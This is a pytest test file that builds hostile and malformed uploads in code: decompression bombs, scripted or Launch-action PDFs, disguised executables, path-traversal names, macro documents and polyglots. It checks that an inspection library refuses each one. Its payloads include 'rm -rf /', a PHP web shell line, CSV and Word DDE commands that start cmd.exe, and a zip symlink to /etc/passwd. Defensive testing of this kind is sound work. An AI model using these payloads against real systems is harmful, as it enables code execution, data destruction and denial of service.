"""Hostile, broken or misplaced files, made here by code: each is refused, with the sentence of its family."""

import io
import random
import struct
import time
import zipfile
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from kit.files import FileRefused, aside, inspect
from kit.files.received import CHUNK, received
from kit.files.zips import contents, entries
from tests.kit import files_made as made

HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\0\3\0\0\0" + bytes(56) + b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd!This program cannot be run in DOS mode.\r\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(CHUNK - 20)
HUGE = 5_000_000_000


def action(**entries):
    def change(document):
        document.Root.OpenAction = Dictionary(**entries)

    return change


def field_script(document):
    """Four objects deep, in a widget's additional actions."""
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, AA=Dictionary(K=script))
    field = document.make_indirect(field)
    document.Root.AcroForm = Dictionary(Fields=Array([field]))
    document.pages[0].Annots = Array([field])


def xfa(document):
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def attach(name, content):
    def change(document):
        document.attachments[name] = content

    return change


def script_address(document):
    link = Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("JavaScript:alert(1)")))
    document.pages[0].Annots = Array([link])


def bomb_of_references() -> bytes:
    """Its own table of objects inflates to three gigabytes."""
    packed = made.deflated_zeros(3_000, zlib.MAX_WBITS)
    table = b"1 0 obj\n<</Type/XRef/Size 2/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    return b"%PDF-1.5\n" + table + packed + b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"


def script_behind_a_bomb(megabytes: int = 3_000) -> bytes:
    """A script packed with gigabytes of blanks: a reader that gives up must not say that there is no script."""
    numbers, script = b"5 0 ", b"<</S/JavaScript/JS(app.alert(1))>> "
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    packed = b"\x78\xda" + packer.compress(numbers + script) + packer.flush(zlib.Z_FULL_FLUSH)
    packed += made.deflated_zeros(megabytes)
    head = b"<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>\nstream\n" % (len(numbers), len(packed))
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Resources<<>>>>",
        head + packed + b"\nendstream",
    ]
    return with_references(bodies)


def with_references(bodies: list[bytes]) -> bytes:
    """Numbered from one; the object that follows the last one is the first of the last one's stream."""
    content, rows = b"%PDF-1.5\n", struct.pack(">BLH", 0, 0, 0)
    for number, body in enumerate(bodies, start=1):
        rows += struct.pack(">BLH", 1, len(content), 0)
        content += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    rows += struct.pack(">BLH", 2, len(bodies), 0)
    table = b"<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Length %d>>" % (len(bodies) + 2, len(rows))
    last = b"%d 0 obj\n" % (len(bodies) + 2) + table + b"\nstream\n" + rows + b"\nendstream\nendobj\n"
    return content + last + b"startxref\n%d\n%%%%EOF\n" % len(content)


def png_declaring(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))

    header = chunk(b"IHDR", struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")


def jpeg_declaring(width: int, height: int) -> bytes:
    content = made.picture()
    place = content.index(b"\xff\xc0") + 5
    return content[:place] + struct.pack(">2H", height, width) + content[place + 4 :]


def many_entries(count: int) -> bytes:
    return made.zipped(made.ooxml_parts() | {f"word/media/{rank}.xml": "" for rank in range(count)})


def entry_called(name: str, body: bytes = b"x") -> bytes:
    return made.zipped(made.ooxml_parts() | {name: body})


def link_entry() -> bytes:
    info = zipfile.ZipInfo("word/link")
    info.external_attr = 0o120777 << 16
    content = io.BytesIO(made.docx())
    with zipfile.ZipFile(content, "a") as archive:
        archive.writestr(info, "/etc/passwd")
    return content.getvalue()


def twice(name: str) -> bytes:
    content = io.BytesIO(made.docx())
    with zipfile.ZipFile(content, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr(name, "another one")
    return content.getvalue()


def overlapping() -> bytes:
    """The table names the same bytes twice, so that a small file unpacks many times over."""
    content = made.zip_of_one(b"a", made.deflated_zeros(1), 1_000_000, zlib.crc32(bytes(1_000_000)))
    start = content.index(b"PK\x01\x02")
    record = content[start:-22]
    again = record.replace(b"a", b"b")
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, len(record + again), start, 0)
    return content[:start] + record + again + end


def renamed_inside() -> bytes:
    """The header in place says one name, the table at the end another."""
    return made.docx().replace(b"word/document.xml", b"word/document.exe", 1)


def hidden_between() -> bytes:
    """A program lies between the entries and the table of contents."""
    content = made.docx()
    offset = struct.unpack("<L", content[-6:-2])[0]
    moved = content[:-6] + struct.pack("<L", offset + len(EXE)) + content[-2:]
    return moved[:offset] + EXE + moved[offset:]


MAIN = "word/document.xml"
TEMPLATE = made.relations(("attachedTemplate", "https://mechant.example/x.dotm"), mode="External")
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"

HOSTILE = {
    # nothing, too much, or not what we take
    "rib.pdf empty": (lambda: b"", "empty"),
    "lourd.pdf": (lambda: made.pdf() + bytes(20_000_001), "size"),
    "dessin.svg": (lambda: SVG, "type"),
    "vieux.doc": (lambda: OLE, "type"),
    "photo.gif": (lambda: b"GIF89a" + bytes(40), "type"),
    "dossier.zip": (lambda: made.zipped({"a.txt": "a"}), "archive"),
    "dossier.rar": (lambda: b"Rar!\x1a\x07\0" + bytes(40), "archive"),
    "dossier.7z": (lambda: b"7z\xbc\xaf\x27\x1c" + bytes(40), "archive"),
    "facture.exe": (lambda: EXE, "program"),
    "page.html": (lambda: HTML, "program"),
    "budget.xlsm": (made.xlsx, "program"),
    # names
    "facture.pdf.exe": (lambda: EXE, "program"),
    "facture.pdf.exe. ": (lambda: EXE, "program"),
    "photo.php.jpg": (made.picture, "name"),
    "photo.jpg.js.png": (lambda: made.picture("PNG"), "name"),
    "facture\u202efdp.exe": (lambda: EXE, "name"),
    "photo\u202egpj.png": (lambda: made.picture("PNG"), "name"),
    "rib.php\0.pdf": (made.pdf, "name"),
    "rib\r\nX: 1.pdf": (made.pdf, "name"),
    "../../etc/rib.pdf": (made.pdf, "name"),
    "..\\..\\rib.pdf": (made.pdf, "name"),
    ".pdf": (made.pdf, "name"),
    "rib": (made.pdf, "name"),
    # another kind under an honest ending
    "programme.pdf": (lambda: EXE, "program"),
    "linux.docx": (lambda: b"\x7fELF" + bytes(80), "program"),
    "script.txt": (lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
    "page.pdf": (lambda: HTML, "program"),
    "page.txt": (lambda: b"Bonjour\n" * 9_000 + HTML, "program"),
    "page16.txt": (lambda: HTML.decode().encode("utf-16"), "program"),
    "dde.csv": (lambda: b"Nom;Montant\r\n=cmd|' /C calc'!A0;12\r\n", "program"),
    "octets.csv": (lambda: bytes(range(256)), "mismatch"),
    "dessin.png": (lambda: SVG, "type"),
    "photo.png": (made.picture, "mismatch"),
    "texte.jpg": (lambda: b"bonjour", "mismatch"),
    "archive.pdf": (lambda: made.zipped({"a.txt": "a"}), "mismatch"),
    "rar.docx": (lambda: b"Rar!\x1a\x07\0" + bytes(40), "archive"),
    "tableur.docx": (made.xlsx, "mismatch"),
    "texte.ods": (lambda: made.odf("odt"), "mismatch"),
    "zip.docx": (lambda: made.zipped({"a.txt": "a"}), "mismatch"),
    "doc97.docx": (lambda: OLE, "mismatch"),
    "photo.heic": (made.m4a, "mismatch"),
    # two files in one
    "gifar.jpg": (lambda: made.picture() + made.zipped({"A.class": b"\xca\xfe\xba\xbe"}), "trap"),
    "pdfzip.pdf": (lambda: made.pdf() + made.zipped({"a.txt": "a"}), "trap"),
    "queue.pdf": (lambda: made.pdf() + b"x" * 5_000, "damaged"),
    "milieu.pdf": (lambda: made.pdf() + b"x" * 2_000, "trap"),
    "photopdf.jpg": (lambda: b"\xff\xd8\xff\xfe\0\x20" + made.pdf(), "trap"),
    "photohtml.png": (lambda: made.picture("PNG") + HTML, "program"),
    "photophp.jpg": (lambda: made.picture(comment=b"<?php system($_GET[0]); ?>"), "program"),
    "sonexe.wav": (lambda: made.wav() + EXE, "program"),
    "sonrar.mp3": (lambda: made.mp3() + b"Rar!\x1a\x07\x01\0", "trap"),
    "avant.docx": (lambda: HTML + made.docx(), "program"),
    "apres.docx": (lambda: made.docx() + HTML, "trap"),
    "entre.docx": (hidden_between, "trap"),
    "deux.docx": (lambda: made.docx({"mimetype": "application/vnd.oasis.opendocument.text"}), "trap"),
    "tardif.pdf": (lambda: b"\n\n" + made.pdf(), "mismatch"),
    # pdf
    "ouvre.pdf": (lambda: made.pdf_changed(action(S=Name.JavaScript, JS=String("app.alert(1)"))), "program"),
    "lance.pdf": (lambda: made.pdf_changed(action(S=Name.Launch, F=String("cmd.exe"))), "program"),
    "champ.pdf": (lambda: made.pdf_changed(field_script), "program"),
    "serre.pdf": (
        lambda: made.pdf_changed(field_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "program",
    ),
    "adresse.pdf": (lambda: made.pdf_changed(script_address), "program"),
    "formulaire.pdf": (lambda: made.pdf_changed(xfa), "program"),
    "jointe.pdf": (lambda: made.pdf_changed(attach("facture.exe", EXE)), "enclosed"),
    "fausse-facture.pdf": (lambda: made.pdf_changed(attach("factur-x.xml", EXE)), "enclosed"),
    "secret.pdf": (
        lambda: made.pdf_changed(lambda document: None, encryption=pikepdf.Encryption(owner="a", user="b")),
        "locked",
    ),
    "coupe.pdf": (lambda: made.pdf()[:600], "damaged"),
    "creux.pdf": (lambda: b"%PDF-1.7\n%%EOF\n", "damaged"),
    "bombe.pdf": (bomb_of_references, "damaged"),
    "derriere-la-bombe.pdf": (script_behind_a_bomb, "heavy"),
    "dans-le-flux.pdf": (lambda: script_behind_a_bomb(1), "program"),
    "revision.pdf": (lambda: made.pdf_changed(lambda document: None) + b"9 0 obj <</S/Launch>>\n%%EOF\n", "program"),
    # pictures
    "bombe.png": (lambda: png_declaring(50_000, 33_334), "heavy"),
    "cinq-gigas.png": (lambda: png_declaring(2**31 - 1, 2**31 - 1), "heavy"),
    "bombe.jpg": (lambda: jpeg_declaring(65_500, 65_500), "heavy"),
    "coupee.jpg": (lambda: made.picture(size=(900, 700))[:5_000], "damaged"),
    "coupee.png": (lambda: made.picture("PNG", size=(900, 700))[:800], "damaged"),
    "coupee.heic": (lambda: made.heic()[:-200], "damaged"),
    "bruit.webp": (lambda: b"RIFF\x30\0\0\0WEBPVP8 " + random.Random(1).randbytes(40), "damaged"),
    # office containers
    "bombe.docx": (lambda: docx_bomb(1_000), "heavy"),
    "cinq-gigas.docx": (lambda: made.zip_of_one(b"a", b"\3\0", HUGE % 2**32, 0), "heavy"),
    "foule.docx": (lambda: many_entries(4_100), "heavy"),
    "zip-dans.docx": (lambda: entry_called("word/media/a.bin", made.zipped({"a": "a"})), "enclosed"),
    "zip-nomme.docx": (lambda: entry_called("word/media/a.zip"), "enclosed"),
    "objet.docx": (lambda: entry_called("word/embeddings/oleObject1.bin", OLE), "enclosed"),
    "exe-dans.docx": (lambda: entry_called("word/media/image1.png", EXE), "program"),
    "js-dans.docx": (lambda: entry_called("word/a.js"), "program"),
    "traverse.docx": (lambda: entry_called("../../etc/cron.d/x"), "trap"),
    "absolu.docx": (lambda: entry_called("/etc/passwd"), "trap"),
    "lien.docx": (link_entry, "trap"),
    "doublon.docx": (lambda: twice(MAIN), "trap"),
    "double-nom.docx": (renamed_inside, "trap"),
    "recouvre.docx": (overlapping, "trap"),
    "macro.docx": (lambda: entry_called("word/vbaProject.bin", OLE), "program"),
    "macro-type.docx": (lambda: made.zipped(made.ooxml_parts(main_type=MACRO_TYPE)), "program"),
    "activex.docx": (lambda: entry_called("word/activeX/activeX1.xml"), "program"),
    "macro4.xlsx": (lambda: made.zipped(made.ooxml_parts("xlsx") | {"xl/macrosheets/sheet1.xml": "x"}), "program"),
    "distant.docx": (lambda: entry_called("word/_rels/settings.xml.rels", TEMPLATE.encode()), "program"),
    "dde.docx": (lambda: entry_called("word/a.xml", b"<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"), "program"),
    "entites.docx": (lambda: entry_called("word/a.xml", b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'), "trap"),
    "entites16.docx": (
        lambda: entry_called("word/a.xml", '<!DOCTYPE x [<!ENTITY a "aaaa">]>'.encode("utf-16")),
        "trap",
    ),
    "svg-dans.docx": (lambda: entry_called("word/media/a.svg", b"<svg><script>alert(1)</script></svg>"), "program"),
    "verrou.docx": (lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(99), "locked"),
    "verrou-zip.docx": (lambda: made.zip_of_one(b"a", b"\3\0", 0, 0, flags=1), "locked"),
    "verrou.odt": (
        lambda: made.odf_with({"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        "locked",
    ),
    "basic.odt": (lambda: made.odf_with({"Basic/Standard/Module1.xml": "<x/>"}), "program"),
    "scripts.odt": (lambda: made.odf_with({"Scripts/python/a.txt": "import os"}), "program"),
    "evenement.odt": (
        lambda: made.odf_with({"content.xml": '<a xlink:href="vnd.sun.star.script:x.py$run"/>'}),
        "program",
    ),
    "coupe.docx": (lambda: made.docx()[:-300], "damaged"),
    "abime.xlsx": (lambda: flipped(made.xlsx()), "damaged"),
    # sounds
    "video.m4a": (lambda: made.m4a(b"vide"), "mismatch"),
    "video.webm": (lambda: made.webm(b"V_VP9"), "mismatch"),
    "video.ogg": (lambda: made.ogg(b"\x80theora"), "mismatch"),
    "cinq-gigas.m4a": (lambda: made.m4a() + struct.pack(">L4sQ", 1, b"mdat", HUGE), "damaged"),
    "cinq-gigas.wav": (lambda: made.wav()[:40] + b"\xff\xff\xff\xff" + bytes(90), "damaged"),
    "coupe.ogg": (lambda: made.ogg()[:-50], "damaged"),
    "etiquette.mp3": (lambda: b"ID3\4\0\0\x7f\x7f\x7f\x7f" + bytes(90), "damaged"),
    "bruit.mp3": (lambda: b"\xff\xfb\x90\0" + bytes(2_000), "damaged"),
    # virus
    "eicar.txt": (lambda: made.EICAR, "virus"),
    "eicar.pdf": (lambda: made.pdf() + made.EICAR, "virus"),
    "eicar-loin.csv": (lambda: b"a;b\n" * ((CHUNK - 40) // 4) + made.EICAR, "virus"),
}


def docx_bomb(megabytes: int) -> bytes:
    """A real Word document, but for one part that inflates a thousand times."""
    content = io.BytesIO(made.docx())
    with zipfile.ZipFile(content, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("word/a.xml", "w") as part:
        for _ in range(megabytes // 5):
            part.write(bytes(1_000_000))
    return content.getvalue()


def flipped(content: bytes) -> bytes:
    """One bit changed in the data of the first part."""
    place = 30 + struct.unpack("<H", content[26:28])[0] + 40
    return content[:place] + bytes([content[place] ^ 4]) + content[place + 1 :]


@pytest.mark.parametrize("name", HOSTILE)
def test_it_refuses_a_hostile_file_with_the_sentence_of_its_family(name):
    make, family = HOSTILE[name]
    began = time.monotonic()
    content = make()
    with pytest.raises(FileRefused) as refused:
        inspect(io.BytesIO(content), name.removesuffix(" empty"))
    assert refused.value.family == family, refused.value.sentence
    assert "nvoyez" in refused.value.sentence and "%(" not in refused.value.sentence
    assert time.monotonic() - began < 40


def test_a_liar_among_the_parts_is_stopped_at_its_declared_length():
    """The table says a hundred bytes, with their true checksum; the data would go on for gigabytes."""
    content = made.zip_of_one(b"[Content_Types].xml", made.deflated_zeros(3_000), 100, zlib.crc32(bytes(100)))
    with received(io.BytesIO(content), 10**8) as copy:
        (entry,) = entries(copy)
        with pytest.raises(FileRefused) as refused:
            for _piece in contents(copy.file, entry):
                pass
    assert refused.value.family == "heavy"


def test_a_reader_that_takes_too_long_is_ended():
    with pytest.raises(FileRefused) as refused, received(io.BytesIO(made.pdf()), 10**8) as copy:
        aside.look_aside("pdf", copy.file, seconds=0)
    assert refused.value.family == "heavy"


def test_a_fault_of_ours_is_never_told_as_a_damaged_file(tmp_path, monkeypatch):
    broken = tmp_path / "probe.py"
    broken.write_text("import nothing_of_that_name")
    monkeypatch.setattr(aside, "PROBE", broken)
    with pytest.raises(RuntimeError, match="nothing_of_that_name"):
        inspect(io.BytesIO(made.pdf()), "devis.pdf")
